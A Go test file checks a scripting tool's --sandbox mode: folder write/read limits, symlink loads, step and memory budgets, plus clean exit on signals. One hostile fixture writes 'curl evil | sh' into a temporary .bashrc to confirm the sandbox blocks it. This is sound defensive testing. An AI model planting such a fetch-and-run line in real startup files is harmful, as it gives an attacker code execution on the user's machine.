package main

import (
	"bufio"
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"
)

// TestSandbox runs hostile recipes with --sandbox (and some without, where
// the trust model lets a script do what its user can). Each names the
// target through args, as the script cannot read the environment. The os
// module's other refusals (/etc/passwd, getenv, listdir, remove, links)
// are tested in builtins/osmod; here, the flags and the other modules.
func TestSandbox(t *testing.T) {
	home := t.TempDir()
	bashrc := filepath.Join(home, ".bashrc")
	os.WriteFile(bashrc, []byte("# mine\n"), 0o644)
	outside := t.TempDir()
	os.WriteFile(filepath.Join(outside, "secret.star"), []byte("secret = 1\n"), 0o644)
	dir := writeFiles(t, map[string]string{
		"bashrc.star": "os.write_text(args[0], 'curl evil | sh\\n')\n",
		"loop.star":   "n = 0\nwhile True:\n    n += 1\n",
		"alloc.star":  "x = [0] * 10**9\n",
		"ok.star": "p = os.path.join(args[0], 'run', 'log.csv')\nos.makedirs(os.path.dirname(p), exist_ok = True)\n" +
			"os.write_text(p, 'a\\n')\nprint(os.read_text(p), os.listdir(args[0]))\n",
		"ckpt.star":   "checkpoint.save(args[0], epoch = 1)\nprint(checkpoint.load(args[0]).epoch)\n",
		"report.star": "r = report.open(args[0])\nr.text('hi')\n",
		"data.star":   "d = data.image_folder(args[0])\n",
		"torch.star":  "torch.save(torch.ones(2), args[0])\n",
		"config.star": "cfg = config(save_path = '/nowhere', source_path = '/nodata')\nos.makedirs(cfg.save_path, exist_ok = True)\nos.listdir(cfg.source_path)\nprint('ok')\n",
	})
	os.Symlink(filepath.Join(outside, "secret.star"), filepath.Join(dir, "link.star"))
	os.WriteFile(filepath.Join(dir, "symload.star"), []byte("load('link.star', 'secret')\nprint(secret)\n"), 0o644)
	runs := t.TempDir()
	sb := func(args ...string) result {
		return dadash(t, dir, "", append([]string{"--sandbox", "--allow-write", runs}, args...)...)
	}
	outsideMsg := "is outside the folders this --sandbox run may"

	sb("bashrc.star", bashrc).check(t, "write ~/.bashrc", 1, "", "os.write_text", bashrc, outsideMsg+" write", "--allow-write")
	if b, _ := os.ReadFile(bashrc); string(b) != "# mine\n" {
		t.Fatalf("~/.bashrc was changed: %q", b)
	}
	sb("symload.star").check(t, "load through a link", 1, "", "through a symbolic link")
	sb("--max-steps", "100000", "loop.star").check(t, "endless loop", 1, "", "loop.star:", "100000 execution steps", "--max-steps")
	sb("alloc.star").check(t, "[0] * 10**9", 1, "", "alloc.star:1:", "memory budget", "--max-memory")
	sb("ok.star", runs).check(t, "inside the roots", 0, "a\n [\"run\"]\n")
	sb("ckpt.star", filepath.Join(runs, "c.ckpt")).check(t, "checkpoint inside", 0, "1\n")
	sb("ckpt.star", filepath.Join(home, "c.ckpt")).check(t, "checkpoint outside", 1, "", "checkpoint.save", outsideMsg+" write")
	sb("report.star", filepath.Join(home, "r.html")).check(t, "report outside", 1, "", "report.open", outsideMsg+" write")
	sb("data.star", home).check(t, "dataset outside", 1, "", "data.image_folder", outsideMsg+" read")
	sb("torch.star", filepath.Join(home, "t.pt")).check(t, "torch.save outside", 1, "", "torch.save", outsideMsg+" write")
	// A script's own defaults are not roots; what the command line names is.
	sb("config.star").check(t, "config defaults", 1, "", "/nowhere", outsideMsg+" write")
	data := t.TempDir()
	sb("config.star", "--set", "save_path="+filepath.Join(home, "run"), "--set", "source_path="+data).check(t, "--set roots", 0, "ok\n")
	dadash(t, dir, "", "--sandbox", "config.star", "--set", "source_path="+data, "--save_path", filepath.Join(home, "run2")).
		check(t, "config roots from flags", 0, "ok\n") // --save_path after the script is the setting, and a root

	// Without --sandbox a script is its user's code: it may write where
	// its user may. The limits on memory and symbolic links hold anyway.
	dadash(t, dir, "", "bashrc.star", bashrc).check(t, "default mode writes", 0, "")
	dadash(t, dir, "", "symload.star").check(t, "default mode load link", 1, "", "through a symbolic link")
	dadash(t, dir, "", "alloc.star").check(t, "default mode [0] * 10**9", 1, "", "memory budget")
	dadash(t, dir, "", "-c", "x = [0.0] * 1000\ny = [x] * 1000\nt = torch.tensor([y] * 1000)").
		check(t, "torch.tensor of shared lists", 1, "", "torch.tensor of 1000000000 numbers", "memory budget")
	dadash(t, dir, "", "--max-memory", "1G", "-c", "x = 'a' * (2 * 1024 * 1024 * 1024)").check(t, "--max-memory", 1, "", "2.0 GiB", "1.0 GiB")

	// Bad flags.
	dadash(t, dir, "", "--max-memory", "lots", "ok.star").check(t, "bad size", 2, "", "--max-memory lots")
	dadash(t, dir, "", "--max-steps", "-1", "ok.star").check(t, "bad steps", 2, "", "--max-steps -1")
	dadash(t, dir, "", "--allow-read").check(t, "missing folder", 2, "", "--allow-read needs a value")
}

// TestSignalsRemoveTemps: SIGTERM, and a second SIGINT, end dadash at once
// during a write; the file being replaced stays whole and no temporary file
// is left.
func TestSignalsRemoveTemps(t *testing.T) {
	for _, tc := range []struct {
		name string
		sigs []syscall.Signal
		code int
	}{
		{"SIGTERM", []syscall.Signal{syscall.SIGTERM}, 143},
		{"SIGINT twice", []syscall.Signal{syscall.SIGINT, syscall.SIGINT}, 130},
	} {
		t.Run(tc.name, func(t *testing.T) {
			// A long write that does not look at the interruption: 20
			// rewrites of 200 MB of text.
			dir := writeFiles(t, map[string]string{
				"w.star": "big = 'x' * (200 * 1024 * 1024)\nos.write_text('out.txt', 'old')\nprint('started')\n" +
					"for i in range(20):\n    os.write_text('out.txt', big)\n",
			})
			cmd := exec.Command(binary, "w.star")
			cmd.Dir = dir
			stdout, _ := cmd.StdoutPipe()
			if err := cmd.Start(); err != nil {
				t.Fatal(err)
			}
			if line, err := bufio.NewReader(stdout).ReadString('\n'); err != nil || line != "started\n" {
				t.Fatalf("first line %q, %v", line, err)
			}
			// Wait for a temporary file, then signal.
			deadline := time.Now().Add(20 * time.Second)
			for time.Now().Before(deadline) {
				if m, _ := filepath.Glob(filepath.Join(dir, ".out.txt.tmp*")); len(m) > 0 {
					break
				}
				time.Sleep(time.Millisecond)
			}
			for _, s := range tc.sigs {
				cmd.Process.Signal(s)
				time.Sleep(20 * time.Millisecond)
			}
			done := make(chan error, 1)
			go func() { done <- cmd.Wait() }()
			var err error
			select {
			case err = <-done:
			case <-time.After(30 * time.Second):
				cmd.Process.Kill()
				t.Fatal("dadash did not exit")
			}
			var ee *exec.ExitError
			if !errors.As(err, &ee) || ee.ExitCode() != tc.code {
				t.Errorf("exit: %v, want status %d", err, tc.code)
			}
			if m, _ := filepath.Glob(filepath.Join(dir, ".out.txt.tmp*")); len(m) != 0 {
				t.Errorf("temporary files left: %v", m)
			}
			b, _ := os.ReadFile(filepath.Join(dir, "out.txt"))
			if s := string(b); s != "old" && len(s) != 200*1024*1024 {
				t.Errorf("out.txt is torn: %d bytes", len(s))
			}
			if strings.Contains(string(b), "panic") {
				t.Error("panic")
			}
		})
	}
}
